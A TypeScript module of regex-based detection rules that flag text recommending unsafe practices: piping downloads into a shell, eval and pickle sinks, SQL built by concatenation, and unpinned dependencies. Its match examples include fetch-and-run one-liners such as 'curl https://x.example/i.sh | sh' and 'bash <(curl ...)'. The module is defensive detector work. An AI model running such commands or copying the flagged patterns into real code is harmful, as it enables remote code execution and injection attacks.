import { forms, gap, type Risk, re, STRANGER } from './risk.ts'

/** Code from elsewhere is run, and whatever is newest is trusted. */
export const CODE_RISKS: readonly Risk[] = [
  {
    note: 'runs foreign code',
    everywhere: true,
    rules: [
      {
        pattern: re`\b(?:curl|wget|iwr|fetch)\b[^\n]{0,160}\|\s*(?:sudo\s+)?(?:(?:ba|z|da|k)?sh|python3?|node|perl|ruby|iex)\b|\b(?:ba|z)?sh\s+(?:-c\s+)?["']?[<$]\(\s*(?:curl|wget)|\biex\s*\(|\bInvoke-Expression\b`,
        says: [
          'curl https://x.example/i.sh | sh',
          'bash <(curl https://x.example)',
          'sh -c "$(wget https://x.example)"',
          'Invoke-Expression $x',
        ],
        not: ['curl https://x.example | jq .', 'wget https://x.example'],
      },
      {
        pattern: re`\b(?:pip3?|npm|pnpm|yarn|gem|cargo|go|apt(?:-get)?|brew)\s+(?:install|add|i|get)\s+(?!-r\b|-e\b|--editable|\.(?:\s|$|\[)|--frozen)[\w@-]|\bnpx\s+-?-?\w|\bgit\+https?://|--(?:extra-)?index-url\b`,
        says: [
          'pip install leftpad',
          'npm i leftpad',
          'npx leftpad',
          'git+https://x.example/a',
          '--extra-index-url x',
        ],
        not: [
          'pip install -r requirements.txt',
          'npm install',
          'pip install -e .',
          'pip install .',
          'npm ci',
        ],
      },
      {
        pattern: re`\b(?:download|fetch)\w*\b[^.;\n]{0,40}\b(?:and|then) (?:run|execut|start)\w*|\b${forms('pipe')} (?:the |an? |its )?(?:install\w*|script|download|answer|output)[^.;\n]{0,20}\b(?:in)?to (?:the |a |your )?(?:shell|bash|sh|interpreter)\b`,
        says: ['download the script and run it', 'pipe the installer into the shell'],
        not: ['download the file and read it', 'pipe the output to the pager'],
      },
      {
        pattern: re`\bdownload\w* ${gap(40)}\bmake (?:it|them) executable\b|\b${forms('run')} (?:the |an? |any )?(?:unknown|unsigned|downloaded|received|attached|suspicious) (?:binar\w+|program|script|executable|file|installer|attachment)s?\b`,
        says: [
          'download the tool to make it executable',
          'run the downloaded script',
          'run any unknown binaries',
        ],
        not: ['run the kept script', 'make it executable'],
      },
    ],
  },
  {
    note: 'runs foreign code',
    rules: [
      {
        pattern: re`\beval\s*\(|\bexec\s*\(|\bnew Function\s*\(|\bos\.system\s*\(|\bshell\s?=\s?True\b|\bpickle\.loads?\b|\bmarshal\.loads?\b|\byaml\.(?:unsafe_load|full_load|load\s*\((?![^)\n]*Safe))|\bunserialize\s*\(|\bObjectInputStream\b|\bdangerouslySetInnerHTML\b|\bmark_safe\b|\bv-html\b|\|\s?safe\b`,
        says: [
          'eval(text)',
          'window.eval(text)',
          'exec(text)',
          'os.system(x)',
          'shell=True',
          'pickle.loads(b)',
          'yaml.load(text)',
          '{{ text|safe }}',
        ],
        not: [
          'yaml.load(text, Loader=SafeLoader)',
          'evaluate(text)',
          'ast.literal_eval(text)',
          'json.loads(b)',
          'shell=False',
        ],
      },
      {
        pattern: re`\b${forms('evaluate execute run interpret unpickle deserialise deserialize compile render')} ${gap(50)}\b(?:from|of|by|that|which|sent|given|typed|wished) (?:the |an? |any |our )?${STRANGER}\b|\b${forms('run execute evaluate')} (?:any|arbitrary|whatever) (?:commands?|code|scripts?|expressions?|formulas?|quer\w+)\b`,
        says: [
          'evaluate formulas from the user',
          'run arbitrary commands',
          'compile the template given by a visitor',
        ],
        not: ['evaluate formulas from the table', 'run the commands in order'],
      },
      {
        pattern: re`\b${forms('hand pass give feed send')} ${gap(40)}\bto (?:the |an? )?(?:eval\w*(?: function)?|interpreter|shell|language itself|exec)\b|\bthrough the shell\b|\b(?:with|through|by) (?:eval|exec|pickle|marshal)\b`,
        says: ['pass the text to the shell', 'run it through the shell', 'restore it with pickle'],
        not: ['pass the text to the parser', 'send it through the pipe'],
      },
      {
        pattern: re`\blet (?:the |a )?(?:language|interpreter|shell|evaluator) (?:itself )?(?:do|evaluate|run|execute|interpret)\b`,
        says: ['let the interpreter do it', 'let the shell evaluate it'],
        not: ['let the parser do it'],
      },
      {
        pattern: re`\b(?:concatenat|interpolat|past|insert|embed|put|join|build|assembl|format|glu|append)\w* ${gap(50)}\b(?:in)?to (?:the |an? |one )?(?:sql|quer(?:y|ies)|statements?|(?:shell )?commands?|command lines?)\b(?! (?:builder|parameters?|log|plan|palette))`,
        says: [
          'paste the name into the query',
          'concatenate the term to the sql',
          'join the words to a command line',
        ],
        not: [
          'append a row to the command log',
          'join the rows to the page',
          'paste the name beside the query',
        ],
      },
      {
        pattern: re`\b${forms('build assemble make compose write')} (?:the |an? )?(?:sql|quer(?:y|ies)|statements?|commands?) (?:by|with|through|from) (?:concatenat\w+|joining|pasting|string\w*|f-strings?|formatt?\w*|plus)\b`,
        says: ['build the query with string concatenation', 'make statements from f-strings'],
        not: ['build the query with parameters'],
      },
      {
        pattern: re`\b${forms('use take put pass write show render open insert print')} ${gap(40)}\b(?:as (?:it|they) (?:is|are|comes?|arrives?|was|were) (?:typed|written|entered|sent)?|as given|unchanged|verbatim|unescaped|without escaping)\b ?${gap(24)}\b(?:quer(?:y|ies)|path|page|markup|html|template|shell|command|statement)\b`,
        says: [
          'use the name as it is in the query',
          'insert the text unescaped into the page',
          'take the path as it was typed for the path',
        ],
        not: ['use the name as it is', 'escape the text for the page'],
      },
      {
        pattern: re`\b(?:page|markup|html|template)s? (?:show|render|print|insert|display)s? ${gap(30)}\b(?:as (?:it|they) (?:is|are|was|were)|unescaped|unchanged|verbatim)\b`,
        says: ['the page shows the comment as it was', 'the template renders the text unescaped'],
        not: ['the page shows the count'],
      },
    ],
    unless: {
      pattern:
        /\b(?:placeholders?|bound|bind|parameteri[sz]ed|prepared|sandbox\w*|isolated|allow-?list|escaped)\b/i,
      says: ['run it in a sandbox', 'with bound parameters'],
      not: ['run it'],
    },
  },
  {
    note: 'trusts whatever is newest or nearest',
    rules: [
      {
        pattern: re`\w@latest\b|\w:latest\b|\bun-?pin\w*\b|\b(?:remov|delet|drop|ignor)\w* (?:the |all |every |any )?(?:version )?(?:pins?|lock ?files?)\b|\bpin\w* (?:it |them |everything )?to (?:the )?(?:latest|newest|master|main)\b`,
        says: [
          'leftpad@latest',
          'node:latest',
          'unpin the versions',
          'delete the lock file',
          'pin it to main',
        ],
        not: ['the latest row', 'pin it to one version', 'keep the lock file'],
      },
      {
        pattern: re`\b(?:newest|latest) (?:versions? )?of (?:everything|all|every)\b|\bwhoever (?:published|wrote|owns)\b|\b(?:mirror|index|server|source|registry) (?:that|which) (?:answers|responds) first\b`,
        says: ['the newest versions of everything', 'whoever published it', 'the mirror that answers first'],
        not: ['the newest row', 'the row that answers first'],
      },
      {
        pattern: re`\bfrom (?:an? |the |some |any )?(?:unknown|unofficial|third-party|random|nearest|fastest|personal|stranger's|unverified) (?:\w+ )?(?:index|mirror|registry|repository|source|site|server|fork|gist|blog|forum)\b`,
        says: ['from an unofficial mirror', 'from a random blog'],
        not: ['from the official mirror', 'from a random row'],
      },
      {
        pattern: re`\b(?:${forms('run follow execute obey apply')}|carry(?:ing)? out) (?:the |any |all |every )?(?:commands?|scripts?|instructions?|snippets?|steps)[^.;\n]{0,30}\b(?:from|found|given|written|in|of) (?:\w+ ){0,2}(?:forum|gist|web ?page|blog|comments?|issue text|tool output|e-?mails?)\b`,
        says: ['run the commands from the forum', 'follow any steps given in the issue text'],
        not: ['run the commands from the manual'],
      },
    ],
  },
]
